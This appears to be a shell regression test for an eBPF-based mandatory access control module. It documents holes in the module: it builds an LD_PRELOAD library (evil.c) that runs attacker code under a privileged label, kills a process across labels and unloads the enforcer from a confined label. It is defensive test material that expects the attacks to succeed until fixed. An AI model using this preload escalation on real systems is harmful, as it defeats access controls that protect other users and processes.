# nodes: 1
# Attack (item: dsmd's label by exec). The test policy's initial label
# (unconfined) is given no `system` permission here, so root in it is
# "confined" as far as dsm's self-protection goes. Yet:
#   - exec of dsmd's binary moves it to dsmd by the policy's own
#     `transition unconfined dsmd_exec -> dsmd` (bpf/task.h hook_bprm_check),
#     and dsmd's label runs whatever the binary is made to run: LD_PRELOAD
#     code runs in label dsmd, because dsm does not ask for secure-exec at a
#     label change (no bpf_bprm_opts_set(BPF_F_BPRM_SECUREEXEC)), so the
#     kernel passes AT_SECURE 0 and ld.so honours LD_PRELOAD;
#   - `dsmctl exec --label dsmd` works too (process transition is all the
#     policy asks, and `process *` grants it);
#   - `dsmd --unload` run from the initial label removes dsm's pins; the
#     programs go when the dsmd that attached them exits (it keeps the
#     link fds: bpf_link__disconnect() + bpf_link__destroy() in dsmd/bpf.c).
#   - The same preload trick turns any transition into the new label's
#     power for the old label: a, which may not signal c, runs b's entry
#     binary with LD_PRELOAD and kills c as b.
#
# EXPECTS THE HOLES: this test passes while every attack succeeds. When
# labels with system permissions can be entered only from the service
# manager label and a label change runs in secure-exec mode, flip them.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../dsm.sh"

holes=0
hole() { echo "ATTACK $1: SUCCEEDED (hole)"; holes=$((holes + 1)); }
expect_hole() { # expect_hole NAME WANT CMD...: the attack's last line must be WANT
	local name=$1 want=$2 got
	shift 2
	got=$("$@" 2>&1 | tail -1)
	echo "$name: $got"
	[[ $got == "$want" ]] || fail "$name: got '$got', want '$want' (the hole this test documents)"
	hole "$name"
}

cat >/tmp/evil.c <<'EOC'
#include <errno.h>
#include <linux/bpf.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Runs before main() of whatever binary it is preloaded into. */
__attribute__((constructor)) static void evil(void)
{
	const char *op = getenv("EVIL_OP");
	union bpf_attr a;
	long r;

	if (!op)
		return;
	printf("preload: pid %d, AT_SECURE %lu\n", getpid(), getauxval(AT_SECURE));
	if (!strcmp(op, "bpf")) {
		memset(&a, 0, sizeof(a));
		r = syscall(SYS_bpf, BPF_PROG_GET_NEXT_ID, &a, sizeof(a));
		printf("preload bpf %s\n", r == 0 || errno == ENOENT ? "OK" : strerror(errno));
	} else if (!strncmp(op, "kill:", 5)) {
		printf("preload kill %s\n", kill(atoi(op + 5), SIGKILL) ? strerror(errno) : "OK");
	}
	fflush(stdout);
	_exit(0);
}
EOC
gcc -shared -fPIC -O2 -o /tmp/evil.so /tmp/evil.c || skip_host "no compiler in the guest"

cp "$PROBE" /tmp/probe-b
dsm_policy /tmp/p.policy <<'EOF2'
file /tmp/probe-b : probe_exec;
transition a probe_exec -> b;
allow a { unconfined probe_exec } : file exec;
allow b c : process signal;
EOF2
# The initial label keeps everything but `system`.
sed -i '/^allow unconfined unconfined : system \*;$/d' /tmp/p.policy
grep -q 'unconfined unconfined : system' /tmp/p.policy && fail "policy edit failed"

echo "--- part 1: without dsm the preload runs in whatever it is preloaded into"
expect_eq "preload without dsm" "$(EVIL_OP=bpf LD_PRELOAD=/tmp/evil.so /bin/true | tail -1)" "preload bpf OK"

dsm_start /tmp/p.policy
echo "--- part 2: root in the initial label, which lacks system"
expect_probe "bpf EACCES" "$PROBE" bpf
expect_probe "unlink EACCES" "$PROBE" unlink /sys/fs/bpf/dsm/links/hook_bpf

expect_hole "LD_PRELOAD into dsmd's binary runs attacker code in label dsmd" "preload bpf OK" \
	env EVIL_OP=bpf LD_PRELOAD=/tmp/evil.so "$DSMD" --help
expect_hole "dsmctl exec --label dsmd gives a shell-chosen command label dsmd" "bpf OK" \
	"$DSMCTL" exec --label dsmd -- "$PROBE" bpf

"$DSMCTL" exec --label c -- "$PROBE" pause >/tmp/victim-c.out &
victim=$!
for _ in $(seq 50); do [[ -s /tmp/victim-c.out ]] && break; sleep 0.1; done
expect_eq "victim's label" "$(label_of "$victim")" c
expect_probe "kill EACCES" as a "$PROBE" kill "$victim" 9
expect_hole "a runs b's entry binary with LD_PRELOAD and kills c as b" "preload kill OK" \
	as a env EVIL_OP=kill:"$victim" LD_PRELOAD=/tmp/evil.so /tmp/probe-b fork
sleep 0.5
kill -0 "$victim" 2>/dev/null && fail "victim still alive"
wait "$victim" 2>/dev/null

# Last, as it removes dsm: the initial label runs `dsmd --unload`.
expect_hole "dsmd --unload from the initial label" 0 bash -c '"$0" --unload >/dev/null 2>&1; echo $?' "$DSMD"
[[ -e /sys/fs/bpf/dsm ]] || hole "dsm's pins are gone"
# The programs stay attached while the dsmd that attached them lives: it
# still holds every link's fd (dsmd/bpf.c: bpf_link__disconnect() then
# bpf_link__destroy() never closes it). Once it exits, nothing enforces.
echo "bpf_link fds dsmd holds: $(ls -l /proc/"$DSMD_PID"/fd | grep -c 'bpf_link')"
echo "right after the unload: $("$PROBE" bpf | tail -1)"
kill -TERM "$DSMD_PID"
wait "$DSMD_PID" 2>/dev/null
DSMD_PID=
expect_hole "once dsmd exits, nothing enforces" "bpf OK" "$PROBE" bpf

echo "RESULT: $holes attack step(s) succeeded from the initial label without system"
((holes >= 6)) || fail "expected every attack to succeed (the hole)"
